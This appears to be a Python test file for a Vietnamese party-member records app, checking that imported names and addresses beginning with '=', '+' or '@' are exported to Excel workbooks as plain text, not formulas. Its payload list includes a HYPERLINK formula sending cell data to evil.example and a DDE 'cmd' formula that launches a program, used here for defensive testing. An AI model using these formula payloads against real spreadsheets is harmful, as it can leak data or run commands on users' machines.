"""Every workbook the product writes holds data as data: a name beginning with "=" never becomes a formula."""
from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import openpyxl
from sqlalchemy import select

from handlers.reports.files import month_xlsx
from models.export import export_members
from models.importer import import_members, read_member_file
from models.members import Member
from models.reports import CellMonth, MonthReport

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1-2",
    "@SUM(A1)",
    "-3",
    "=1+1",
    "#N/A",
]
PHONES = ["+84905111201", "+84905111202", "+84905111203", "+84905111204", "+84905111205", "+84905111206",
          "+84905111207"]


def hostile_csv() -> bytes:
    """A member list whose names and addresses are formula payloads; phones written with a leading "+"."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(["Họ và tên", "Ngày sinh", "Số điện thoại", "Số thẻ đảng", "Chi bộ", "Đảng bộ", "Địa chỉ"])
    for n, (payload, phone) in enumerate(zip(HOSTILE, PHONES, strict=False)):
        writer.writerow([payload, "05/12/1950", phone, f"07.0009{n:02d}", "=Chi bộ 1", "@Đảng bộ phường Phú Hội",
                         HOSTILE[-1 - n]])
    return out.getvalue().encode()


def formula_cells(data: bytes | Path) -> list[str]:
    """Every cell of every sheet stored as a formula (or an error), read back with openpyxl."""
    book = openpyxl.load_workbook(data if isinstance(data, Path) else io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.data_type in ("f", "e")]


async def test_hostile_values_export_as_text_and_read_back_exactly(session, tmp_path):
    report = await import_members(session, read_member_file(hostile_csv(), "ds.csv"))
    assert (report.errors, report.created) == ([], len(HOSTILE))
    await session.commit()
    stored = sorted((await session.execute(select(Member.full_name, Member.address, Member.phone))).all())
    assert sorted(m[0] for m in stored) == sorted(HOSTILE)

    path = tmp_path / "export.xlsx"
    await export_members(session, path)
    assert formula_cells(path) == []
    book = openpyxl.load_workbook(path, read_only=True, data_only=True)
    names = [row[0] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted(HOSTILE)

    again = await import_members(session, read_member_file(path), dry_run=True)
    assert (again.errors, again.created, again.updated, again.unchanged) == ([], 0, 0, len(HOSTILE))
    assert sorted((await session.execute(select(Member.full_name, Member.address, Member.phone))).all()) == stored


def test_the_month_report_workbook_holds_no_formula():
    cells = [CellMonth(cell_id=n, cell_name=name, path=f"/1/{n}/", exempt_counted=True, held=1, not_recorded=0,
                       present=3, base=4, members=4) for n, name in enumerate(HOSTILE, start=2)]
    report = MonthReport(year=2026, month=11, unit_name="=Đảng bộ phường Phú Hội", unit_path="/1/", cells=cells)
    data = month_xlsx(report, "vi")
    assert formula_cells(data) == []
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [ws.cell(row=5 + n, column=1).value for n in range(len(HOSTILE))] == HOSTILE
    assert ws.cell(row=5, column=4).value == 3  # numbers stay numbers


def test_a_date_keeps_its_format_and_a_number_stays_a_number():
    from models.sheets import cells

    book = openpyxl.Workbook(write_only=True)
    ws = book.create_sheet("x")
    ws.append(cells(ws, ["=1+1", date(1950, 12, 5), 7, None]))
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(openpyxl.load_workbook(buffer).worksheets[0].iter_rows())
    assert [c.data_type for c in row[:3]] == ["s", "d", "n"]
    assert row[0].value == "=1+1" and row[1].number_format == "DD/MM/YYYY"
